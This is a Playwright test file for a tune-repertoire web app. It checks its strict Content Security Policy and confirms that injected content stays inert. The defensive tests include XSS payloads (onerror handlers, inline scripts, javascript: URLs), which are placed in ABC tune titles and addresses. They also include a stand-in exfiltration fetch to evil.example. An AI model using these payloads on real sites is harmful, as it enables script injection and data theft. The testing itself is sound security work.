// The content security policy: strict, in force on every page, and a second wall behind the sanitising. (Every other test fails, too, when a page or a
// worker runs against it: device.mjs.)
import { expect, test } from "../fixtures.mjs";

const watch = async (context) => {
  await context.addInitScript(() => {
    window.violations = [];
    addEventListener("securitypolicyviolation", (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile ?? ""}`));
  });
};
const violations = (page) => page.evaluate(() => window.violations);
const PAGES = ["/", "/repertoire", "/repertoires", "/know", "/import", "/starter", "/catalog", "/new-tune", "/analysis", "/history", "/settings", "/settings/account",
  "/settings/practice", "/settings/appearance", "/settings/keyboard", "/settings/sync", "/data", "/conflicts", "/refused", "/start", "/sign-in", "/sign-up", "/forgotten", "/nowhere"];

test("the policy is strict, in the page and in the headers of page and workers", async ({ device, stack }) => {
  const one = await device();
  const header = async (path) => (await fetch(`${stack.url}${path}`)).headers.get("content-security-policy");
  for (const path of ["/", "/worker.js", "/worker_loader.js", "/sw.js"]) {
    const policy = Object.fromEntries((await header(path)).split(";").map((part) => part.trim().split(/ (.*)/s)));
    expect(policy["script-src"], path).toBe("'self' 'wasm-unsafe-eval'");
    expect(policy["object-src"]).toBe("'none'");
    expect(policy["base-uri"]).toBe("'none'");
    expect(policy["frame-ancestors"]).toBe("'none'");
    expect(policy["default-src"]).toBe("'none'");
  }
  const meta = await one.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  expect(meta).toContain("script-src 'self' 'wasm-unsafe-eval';");
  expect(meta).toContain("connect-src 'self'");
  expect(await (await fetch(stack.url)).text()).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
});

test("no page runs against it", async ({ device }) => {
  const one = await device({ prepare: watch });
  await one.signIn("test1@example.com");
  await one.synced();
  expect(await violations(one.page)).toEqual([]);
  for (const path of PAGES) {
    await one.page.goto(`${one.url}${path}`);
    await expect(one.page.getByRole("heading", { level: 1 })).toBeVisible();
    await one.page.waitForTimeout(300);
    expect(await violations(one.page), path).toEqual([]);
  }
  await one.go("Catalog");
  await one.page.getByTestId("tune-row").first().getByRole("link").click();
  await expect(one.page.locator("svg[role=img], .notation svg").first()).toBeVisible();
  expect(await violations(one.page), "a tune with notation").toEqual([]);
});

test("what gets past everything else is stopped by it", async ({ device }) => {
  const one = await device({ prepare: watch });
  await expect(one.page.getByRole("link", { name: "Start on this device" })).toBeVisible();
  const blocked = one.problems;
  const stopped = async (what, attempt) => {
    const before = (await violations(one.page)).length;
    await one.page.evaluate(attempt);
    await expect.poll(async () => (await violations(one.page)).length, what).toBeGreaterThan(before);
    expect(await one.page.evaluate(() => window.hurt), what).toBeUndefined();
  };
  await stopped("an inline script", () => document.body.append(Object.assign(document.createElement("script"), { textContent: "window.hurt = 1" })));
  await stopped("a handler", () => {
    const image = document.createElement("div");
    image.innerHTML = "<img src='data:,' onerror='window.hurt = 1'>";
    document.body.append(image);
  });
  await stopped("a foreign script", () => document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" })));
  // Later: what the test itself evaluates may do so.
  await stopped("words run as code", () => {
    setTimeout(() => {
      try {
        window.eval("window.hurt = 1");
      } catch {}
    });
  });
  await stopped("a message home", () => fetch("https://evil.example/?stolen").catch(() => {}));
  await stopped("a frame", () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })));
  await stopped("another base", () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })));
  await stopped("a style sheet", () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.example/x.css" })));
  // These were meant to be refused.
  expect(blocked.length).toBeGreaterThan(0);
  blocked.length = 0;
});

const HURT = "<img src=x onerror=\"window.hurt=1\"><script>window.hurt=1</script>";

test("attacks by titles, files and addresses are words on every page they come to", async ({ device }) => {
  const one = await device({ prepare: watch });
  const page = one.page;
  const unhurt = async (where) => {
    expect(await page.evaluate(() => window.hurt), where).toBeUndefined();
    expect(await violations(page), where).toEqual([]);
    expect(await page.locator("#page img[src='x'], #page script, #page iframe, #page a[href^='javascript']").count(), where).toBe(0);
  };
  await one.startHere("Harp");
  // A file of tunes, and a table.
  const abc = `X:1\nT:${HURT}\nC:${HURT}\nS:javascript:window.hurt=1\nR:jig\nM:6/8\nK:G\n"${HURT}"GAG GAB|ABA ABd|\nw:${HURT}\n`;
  await page.goto(`${one.url}/import`);
  await page.getByLabel("Or paste ABC").fill(abc);
  await page.getByRole("button", { name: "Look at it" }).click();
  await expect(page.getByTestId("offer")).toHaveCount(1);
  await unhurt("the preview of an import");
  await page.getByRole("button", { name: /^Bring in/ }).click();
  await one.go("Repertoire");
  await expect(page.getByTestId("tune-row")).toHaveCount(1);
  await unhurt("the list");
  await page.getByTestId("tune-row").getByRole("link").click();
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  await unhurt("the tune's page");
  await one.go("Practice");
  await unhurt("practice");
  // Addresses.
  for (const address of [`/history?tune=${encodeURIComponent(HURT)}`, "/history?tune=javascript:window.hurt=1", `/tune/${encodeURIComponent(HURT)}`, `/${encodeURIComponent(HURT)}`]) {
    await page.goto(`${one.url}${address}`);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await unhurt(address);
  }
  await page.goto(`${one.url}/know`);
  await unhurt("what do I know");
  await one.go("Analysis");
  await unhurt("the analysis");
});
